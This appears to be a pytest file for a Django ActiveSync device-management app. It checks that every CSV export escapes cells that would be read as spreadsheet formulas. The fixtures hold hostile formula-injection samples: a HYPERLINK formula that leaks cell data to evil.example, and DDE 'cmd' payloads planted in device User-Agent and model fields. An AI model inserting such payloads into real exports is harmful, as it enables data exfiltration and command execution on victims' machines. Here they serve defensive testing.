"""Every CSV export neutralises cells a spreadsheet would run as a formula (devices.csv_export).

A device chooses its User-Agent, its model and its X-Request-ID (the audit's
request_id); all three reach `eas get-device`, `eas get-audit-log` and the
web's audit export. A cell starting with '=', '+', '-', '@', tab or CR is
written with a leading apostrophe, in every export.
"""

import base64
import csv
import io

import pytest
from django.test import Client

from devices import actions, csv_export
from devices.audit import Actor
from devices.eas import build_device_information_body
from devices.models import AuditEvent, AuditSource, MobileDevice
from tests.cli_support import eas

ADMIN = Actor(source=AuditSource.CLI)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
REQUEST_ID = "=1+2"
USER_AGENT = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "\ufffd=1"),  # a control is shown as U+FFFD (devices.hostile)
        ("\r=1", "\ufffd=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        ("2026-01-01T00:00:00+00:00", "2026-01-01T00:00:00+00:00"),
    ],
)
def test_safe_cell_neutralises_formula_starts_only(value, cell):
    assert csv_export.safe_cell(value) == cell


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_export.writer(out, lineterminator="\n").writerow(["=a", "b", "-c", None, 7])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=a", "b", "'-c", "", "7"]]


@pytest.fixture
def hostile(db, settings):
    """A phone that reports formula-shaped details through the real gate."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    actions.set_org_settings(ADMIN, default_access_level="Allow")
    actions.create_mailbox(ADMIN, alias="eve", email="eve@example.org", password="eve-secret")
    credentials = base64.b64encode(b"eve:eve-secret").decode()
    response = Client().post(
        "/Microsoft-Server-ActiveSync",
        build_device_information_body("Provision", {"model": MODEL, "user_agent": USER_AGENT}),
        content_type="application/vnd.ms-sync.wbxml",
        headers={
            "Authorization": f"Basic {credentials}",
            "MS-ASProtocolVersion": "14.1",
            "User-Agent": USER_AGENT,
            "X-Request-ID": REQUEST_ID,
        },
        QUERY_STRING="Cmd=Provision&DeviceId=EVEPHONE1&DeviceType=iPhone&User=eve",
    )
    assert response.status_code == 200, response.content
    device = MobileDevice.objects.get(device_id="EVEPHONE1")
    assert (device.user_agent, device.device_model) == (USER_AGENT, MODEL)
    assert AuditEvent.objects.filter(request_id=REQUEST_ID).exists()
    return device


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_get_device_csv_neutralises_device_supplied_cells(hostile):
    (row,) = rows(eas("get-device", "--mailbox", "eve", "--format", "csv"))
    assert row["user_agent"] == "'" + USER_AGENT
    assert row["device_model"] == "'" + MODEL
    assert row["device_id"] == "EVEPHONE1"


def test_get_audit_log_csv_neutralises_the_request_id(hostile):
    exported = rows(eas("get-audit-log", "--format", "csv"))
    from_gate = [r for r in exported if r["source"] == AuditSource.GATE]
    assert from_gate and {r["request_id"] for r in from_gate} == {"'" + REQUEST_ID}
    assert all(not v.startswith(csv_export.FORMULA_STARTS) for r in exported for v in r.values())


@pytest.mark.parametrize(
    ("verb", "make"),
    [
        ("get-mailbox", lambda: actions.create_mailbox(ADMIN, alias="m1", email="m1@example.org",
                                                       display_name=FORMULA)),
        ("get-rule", lambda: actions.create_rule(ADMIN, characteristic="UserAgent",
                                                 query_string="-evil*", access_level="Block")),
        ("get-org-settings", lambda: actions.set_org_settings(ADMIN, user_mail_insert=FORMULA)),
    ],
)  # fmt: skip
@pytest.mark.django_db
def test_every_other_csv_verb_goes_through_the_same_writer(verb, make):
    make()
    exported = rows(eas(verb, "--format", "csv"))
    cells = [v for r in exported for v in r.values()]
    assert any(v.startswith("'") for v in cells), cells
    assert not [v for v in cells if v.startswith(csv_export.FORMULA_STARTS)], cells


def test_the_web_export_neutralises_the_request_id(hostile, django_user_model):
    staff = django_user_model.objects.create_user("hd", password="x", is_superuser=True)
    client = Client()
    client.force_login(staff)
    response = client.get("/audit/export.csv?source=gate")
    assert response.status_code == 200
    exported = rows(b"".join(response.streaming_content).decode())
    assert exported and {r["request_id"] for r in exported} == {"'" + REQUEST_ID}
    assert all(not v.startswith(csv_export.FORMULA_STARTS) for r in exported for v in r.values())
